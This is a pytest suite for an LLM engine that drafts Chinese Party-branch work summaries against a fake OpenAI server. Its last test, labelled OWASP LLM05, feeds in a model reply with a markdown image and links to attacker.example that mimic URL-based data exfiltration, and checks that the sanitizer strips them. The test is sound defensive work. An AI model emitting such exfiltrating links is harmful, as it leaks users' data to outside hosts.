"""The LLM draft engine through the real client stack against the fake OpenAI server (tests/fake_openai.py).

The fake answers by reading the prompt (outline, a section, or a repair), as a real model would; every
assertion about prompts is on the JSON the server received.
"""

from collections.abc import Callable
from datetime import date
from typing import Any

import pytest

from drafting.config import get_settings
from drafting.corpus.models import Passage
from drafting.errors import LLMUnavailable
from drafting.fake_openai import FakeOpenAI, Fault, prompt_text
from drafting.llm import make_chat_model
from drafting.templates import render
from drafting.writer.engines import choose_engine
from drafting.writer.facts import Appraisal, Facts, Stat
from drafting.writer.llm_engine import LLMDraftEngine, Written, parse_outline, parse_section
from drafting.writer.models import Exemplars
from drafting.writer.template_engine import TemplateEngine
from tests.fake_openai import use_fake_openai

FACTS = Facts(
    unit="银宇煤矿党支部", date=date(2024, 1, 15), sector="企业",
    basis="公司党工委开展群众评议工作的有关要求",
    stats=[Stat(label="开展评议大会", value="12", unit="场次"),
           Stat(label="群众满意度", value="96", unit="%"),
           Stat(label="发放评议问卷", value="300多", unit="份"),
           Stat(label="收集意见建议", value="45", unit="条")],
    appraisal=Appraisal(members_total=30, members_reviewed=28),
    highlights=["邀请项目部、监理单位群众代表参加评议"],
    problems=["个别党员对群众评议工作重视不够"],
    next_steps=["推行一季一评议、半年一小结的评议制度"],
)

EXEMPLARS = Exemplars(parts={
    "measures": [Passage(id="c1", doc_id="d1", title="某区委群众评议工作总结",
                         heading_path=["一、采取四项措施"],
                         text="全区共开展评议大会645场次，评议范围求广。", score=0.9)],
    "problems": [Passage(id="c2", doc_id="d2", title="某学校总结",
                         text="存在问题：学习不够深入。", score=0.5)],
})

OUTLINE = """标题：银宇煤矿党支部2024年创先争优群众评议工作总结
一、采取四项措施，找准群众评议工作风向标
1. 准备工作求细
2. 评议范围求广
二、突出四种特性，确保群众评议工作实打实
1. 增强针对性，明确评议目标
三、围绕四个确保，抓好群众评议工作着力点
1. 确保通过评议了解民情民意
四、存在的问题
五、下一步打算"""

# What a faithful model writes for each section, keyed by the start of the heading it is asked for.
SECTIONS = {
    "opening": "按照公司党工委开展群众评议工作的有关要求，银宇煤矿党支部高度重视，精心部署，"
               "开展评议大会12场次，群众满意度达96%，发放评议问卷300多份。"
               "现将群众评议工作开展情况总结如下：",
    "采取四项措施": "坚持把走群众路线作为开展群众评议的出发点。\n"
                    "一是准备工作求细。成立群众评议工作领导小组。\n"
                    "二是评议范围求广。邀请项目部、监理单位群众代表参加评议，收集意见建议45条。",
    "突出四种特性": "立足我矿实际，狠抓群众评议工作。\n"
                    "一是增强针对性，明确评议目标。围绕“创新增效”目标开展群众评议。",
    "围绕四个确保": "按照实事求是的原则开展评议。\n"
                    "一是确保通过评议了解民情民意。全矿党员总数30人，被评议的党员28人。",
    "存在的问题": "总体上看，评议工作取得了一定效果，但也存在一些问题，主要表现在："
                  "个别党员对群众评议工作重视不够。",
    "下一步打算": "下一步，我们将推行一季一评议、半年一小结的评议制度，推动工作再上新台阶。",
}
INVENTED = SECTIONS["采取四项措施"] + "\n三是评议内容求精。共走访群众800户。"


def section_key(prompt: str) -> str | None:
    if "现在只写开头段" in prompt:
        return "opening"
    if "现在只写“" not in prompt:
        return None
    asked = prompt.split("现在只写“", 1)[1].split("”", 1)[0]
    return next((key for key in SECTIONS if f"、{key}" in asked), None)


def model_reply(sections: dict[str, str], repairs: list[str] | None = None,
                outline: str = OUTLINE) -> Callable[[dict[str, Any]], str]:
    """A scripted model: the outline, one reply per section, and repair replies in order."""
    pending = list(repairs or [])

    def reply(request: dict[str, Any]) -> str:
        prompt = prompt_text(request)
        if "拟定提纲" in prompt:
            return outline
        if "核对发现" in prompt:
            return pending.pop(0)
        key = section_key(prompt)
        if key is None and len(set(sections.values())) == 1:
            return next(iter(sections.values()))
        assert key is not None, prompt
        return sections[key]

    return reply


def engine(fallback: bool = False) -> LLMDraftEngine:
    model = make_chat_model(get_settings())
    assert model is not None
    return LLMDraftEngine(model, get_settings(), fallback=TemplateEngine() if fallback else None)


def user_prompts(fake: FakeOpenAI) -> list[str]:
    return [r["messages"][-1]["content"] for r in fake.chat_requests]


def test_prompts_carry_the_facts_and_the_exemplars(fake_openai_env):
    fake_openai_env.reply = model_reply(SECTIONS)
    draft = engine().write(FACTS, EXEMPLARS)

    assert draft.engine == "llm"
    assert draft.verification.ok, draft.verification
    assert draft.warnings == []
    assert draft.title == "银宇煤矿党支部2024年创先争优群众评议工作总结"
    assert [s.heading for s in draft.sections] == [
        "", "一、采取四项措施，找准群众评议工作风向标", "二、突出四种特性，确保群众评议工作实打实",
        "三、围绕四个确保，抓好群众评议工作着力点", "四、存在的问题", "五、下一步打算"]
    assert draft.sections[1].items[1] == "一是准备工作求细。成立群众评议工作领导小组。"
    assert draft.text.rstrip().endswith("银宇煤矿党支部\n二〇二四年一月十五日")

    prompts = user_prompts(fake_openai_env)
    assert len(prompts) == 7  # outline + opening + five sections, no repair needed
    assert "拟定提纲" in prompts[0] and '<stat label="开展评议大会" unit="场次">12</stat>' in prompts[0]
    assert "一、采取四项措施" in prompts[0]  # the exemplar's heading, offered as structure
    system = fake_openai_env.chat_requests[0]["messages"][0]["content"]
    assert "不得照抄" in system and "〔待补充" in system
    measures = next(p for p in prompts if "现在只写“一、采取四项措施" in p)
    assert ('<exemplar source="某区委群众评议工作总结" heading="一、采取四项措施">'
            "全区共开展评议大会645场次") in measures
    assert "<problem>个别党员对群众评议工作重视不够</problem>" in measures
    must_use = measures.split("必须写入")[1]
    assert "发放评议问卷300多份" not in must_use  # a headline figure: the opening's
    assert "收集意见建议45条" in must_use
    assert "1. 准备工作求细" in measures
    assert SECTIONS["opening"] in measures  # what is already written is in view
    assert "某学校总结" not in measures
    problems = next(p for p in prompts if "现在只写“四、存在的问题" in p)
    assert '<exemplar source="某学校总结">' in problems


def test_an_invented_figure_is_repaired_and_the_repair_names_the_fault(fake_openai_env):
    sections = dict(SECTIONS, 采取四项措施=INVENTED)
    repaired = SECTIONS["采取四项措施"] + "\n三是评议内容求精。广泛走访群众。"
    fake_openai_env.reply = model_reply(sections, repairs=[repaired])

    draft = engine().write(FACTS, EXEMPLARS)

    assert draft.verification.ok
    assert "800" not in draft.text and "广泛走访群众" in draft.text
    repair = next(p for p in user_prompts(fake_openai_env) if "核对发现" in p)
    assert "“800户”" in repair or "“800”" in repair
    assert "一、采取四项措施" in repair and "共走访群众800户" in repair
    assert len(user_prompts(fake_openai_env)) == 8


def test_a_dropped_fact_is_sent_back_to_the_section_that_owns_it(fake_openai_env):
    sections = dict(SECTIONS, 存在的问题="总体上看，评议工作还存在一些不足。")
    fake_openai_env.reply = model_reply(sections, repairs=[SECTIONS["存在的问题"]])

    draft = engine().write(FACTS, EXEMPLARS)

    assert draft.verification.ok
    repair = next(p for p in user_prompts(fake_openai_env) if "核对发现" in p)
    assert "四、存在的问题" in repair and "个别党员对群众评议工作重视不够" in repair.split("<facts>")[0]


def test_a_figure_the_model_never_fixes_is_flagged_not_hidden(fake_openai_env):
    fake_openai_env.reply = model_reply(dict(SECTIONS, 采取四项措施=INVENTED), repairs=[INVENTED, INVENTED])

    draft = engine().write(FACTS, EXEMPLARS)

    assert draft.engine == "llm"
    assert not draft.verification.ok
    assert any("800" in n for n in draft.verification.unsupported_numbers)
    assert len([p for p in user_prompts(fake_openai_env) if "核对发现" in p]) == 2
    assert any("核对未通过" in w and "800" in w for w in draft.warnings)


FAULTS = {"HTTP 500": Fault.error(500), "timeout": Fault.delay(3), "garbage": Fault.garbage()}


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
def test_a_failing_server_falls_back_to_the_template_under_auto(fake_openai, monkeypatch, fault):
    use_fake_openai(monkeypatch, fake_openai, timeout=1.0)
    fake_openai.script(fault)

    draft = engine(fallback=True).write(FACTS, EXEMPLARS)

    assert draft.engine == "template"
    assert draft.warnings[0].startswith("大模型不可用：") and draft.warnings[0].endswith("已改用模板引擎")
    assert "12场次" in draft.text
    assert len(fake_openai.chat_requests) == 1


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
def test_a_failing_server_is_llm_unavailable_under_llm(fake_openai, monkeypatch, fault):
    use_fake_openai(monkeypatch, fake_openai, timeout=1.0)
    fake_openai.script(fault)
    with pytest.raises(LLMUnavailable, match="^大模型不可用：") as caught:
        engine().write(FACTS, EXEMPLARS)
    assert "\n" not in caught.value.message


def test_a_failure_midway_falls_back_too_and_the_stream_says_so(fake_openai_env):
    fake_openai_env.script(OUTLINE, SECTIONS["opening"], Fault.error(502))
    pieces: list[str] = []
    auto = choose_engine("auto", make_chat_model(get_settings()), get_settings())

    draft = auto.write(FACTS, EXEMPLARS, on_text=pieces.append)

    assert draft.engine == "template"
    assert "HTTP 502" in draft.warnings[0]
    streamed = "".join(pieces)
    order = [streamed.index(part) for part in (SECTIONS["opening"], draft.warnings[0], draft.text)]
    assert order == sorted(order)


def test_streaming_delivers_the_text_as_it_arrives(fake_openai_env):
    fake_openai_env.reply = model_reply(SECTIONS)
    pieces: list[str] = []

    draft = engine().write(FACTS, EXEMPLARS, on_text=pieces.append)

    streamed = "".join(pieces)
    assert len(pieces) > 50  # the fake sends four characters a chunk
    assert streamed.startswith(draft.title + "\n")
    assert "一、采取四项措施，找准群众评议工作风向标\n坚持把走群众路线" in streamed
    assert SECTIONS["下一步打算"] in streamed
    assert all(r["stream"] for r in fake_openai_env.chat_requests[1:])


def test_an_unreadable_outline_gives_way_to_the_genre_outline(fake_openai_env):
    fake_openai_env.reply = model_reply(SECTIONS, outline="好的，我来写。")
    draft = engine().write(FACTS, EXEMPLARS)
    assert "大模型给出的提纲无法识别，已按常规提纲起草" in draft.warnings
    assert draft.sections[1].heading == "一、采取四项措施，夯实群众评议工作基础"
    # the facts name no campaign (their basis neither): the title names none, not 创先争优 (2010-2012)
    assert draft.title == "银宇煤矿党支部2024年创先争优群众评议工作总结"


def test_outline_parsing_tolerates_markdown_and_numbering_styles():
    outline = parse_outline("""好的，提纲如下：
**标题：** 某村2024年群众评议工作总结
## 一、 强化组织领导
（1）成立领导小组
- 广泛宣传发动
二．创新评议方式
1、开门评议
### 三、存在问题与不足
四、今后努力方向""")
    assert outline is not None
    assert outline.title == "某村2024年群众评议工作总结"
    assert [(s.part, s.heading, s.leads) for s in outline.sections] == [
        ("measures", "强化组织领导", ["成立领导小组", "广泛宣传发动"]),
        ("characteristics", "创新评议方式", ["开门评议"]),
        ("problems", "存在问题与不足", []),
        ("next_steps", "今后努力方向", []),
    ]
    assert parse_outline("没有任何编号的回答") is None


def test_choose_engine_builds_the_llm_engine_from_the_settings(fake_openai_env):
    built = choose_engine("llm", make_chat_model(get_settings()), get_settings())
    assert isinstance(built, LLMDraftEngine) and built.fallback is None
    auto = choose_engine("auto", make_chat_model(get_settings()), get_settings())
    assert isinstance(auto, LLMDraftEngine) and isinstance(auto.fallback, TemplateEngine)


def test_every_llm_prompt_template_renders():
    assert "纯文本" in render("llm/draft_system.j2")
    for carried in (False, True):
        default = parse_outline(render("llm/draft_outline_default.j2", unit="某单位", year=2024,
                                       activity="创先争优", carried=carried))
        assert default is not None
        tail = ["carried", "problems", "next_steps"] if carried else ["assurances", "problems", "next_steps"]
        assert [s.part for s in default.sections][-3:] == tail


def test_invented_figures_in_the_outline_give_way_and_facts_are_asked_for_once(fake_openai_env):
    outline = """标题：银宇煤矿党支部2023年度工作总结
一、采取5项措施，扎实开展评议
1. 召开座谈会8次
二、创新评议方式
三、强化结果运用
四、抓好整改落实
五、存在的问题
六、下一步打算"""
    body = "坚持开门评议。\n一是广泛听取意见。"
    fake_openai_env.reply = model_reply(dict.fromkeys(SECTIONS, body), outline=outline)

    draft = engine().write(FACTS, EXEMPLARS)

    assert draft.title == "银宇煤矿党支部2024年创先争优群众评议工作总结"
    assert draft.sections[1].heading == "一、采取四项措施，夯实群众评议工作基础"
    assert [s.heading for s in draft.sections[2:]] == [
        "二、创新评议方式", "三、强化结果运用", "四、抓好整改落实", "五、存在的问题", "六、下一步打算"]
    sections = [p for p in user_prompts(fake_openai_env) if "现在只写" in p]
    assert "召开座谈会8次" not in sections[1]
    must_use = [p.split("必须写入", 1)[1] if "必须写入" in p else "" for p in sections]
    for fact in ("党员总数：30", "群众满意度达96%", "收集意见建议45条", "个别党员对群众评议工作重视不够"):
        assert sum(fact in m for m in must_use) == 1, fact
    assert "党员总数：30" in must_use[3]  # the form's figures go to the first 确保-like section


def test_a_section_reply_is_read_as_paragraphs_without_markup_headings_or_signature():
    outline = parse_outline(OUTLINE)
    assert outline is not None
    section = Written(part="measures", heading="一、采取四项措施，找准群众评议工作风向标")
    reply = """## 一、采取四项措施，找准群众评议工作风向标

**坚持把走群众路线作为出发点。**
一是准备工作求细。〔待补充：领导小组组成〕

银宇煤矿党支部
二〇二四年一月十五日"""
    assert parse_section(reply, section, outline, FACTS) == [
        "坚持把走群众路线作为出发点。", "一是准备工作求细。〔待补充：领导小组组成〕"]


def test_a_draft_stops_asking_the_llm_when_its_budget_is_spent(fake_openai, monkeypatch):
    # each request alone is within its timeout (30 s); the run's budget (3 s) is not
    monkeypatch.setenv("DRAFTING_LLM_BUDGET", "3")
    use_fake_openai(monkeypatch, fake_openai, timeout=30.0)
    fake_openai.script(Fault.delay(2, then=OUTLINE), *[Fault.delay(2, then=SECTIONS[p]) for p in SECTIONS])

    draft = engine(fallback=True).write(FACTS, EXEMPLARS)

    assert draft.engine == "template"
    assert draft.warnings[0] == "大模型不可用：超过总时限（3 秒），已改用模板引擎"
    assert len(fake_openai.chat_requests) == 2  # the outline, then the opening cut off by the budget


def test_the_appraisals_figures_open_and_the_works_results_go_to_the_assurances():
    from drafting.writer.llm_engine import assign_facts

    saved = Stat(label="节约成本", value="420", unit="万元")
    facts = FACTS.model_copy(update={"stats": [saved, *FACTS.stats]})
    parts = ["opening", "measures", "characteristics", "assurances", "problems", "next_steps"]
    lines = {part: [a.line for a in got] for part, got in zip(parts, assign_facts(facts, parts), strict=True)}
    assert lines["opening"][1:] == ["召开评议大会12场次", "群众满意度达96%", "发放评议问卷300多份"]
    assert "节约成本420万元" in lines["assurances"]
    assert "收集意见建议45条" in lines["measures"]


def test_images_and_links_an_llm_writes_never_reach_the_draft(fake_openai_env):
    """OWASP LLM05: a section reply carrying an image, a link and a bare address renders as plain words."""
    poisoned = dict(SECTIONS)
    poisoned["存在的问题"] = (SECTIONS["存在的问题"] + "\n详见![图](http://attacker.example/leak?d=1)"
                            "[整改通知](http://attacker.example/a)，或访问 www.attacker.example/b 。")
    fake_openai_env.reply = model_reply(poisoned)
    draft = engine().write(FACTS, EXEMPLARS)

    for text in (draft.text, draft.markdown):
        assert "attacker" not in text and "](" not in text and "<img" not in text
    assert "整改通知" in draft.text  # a link keeps its words
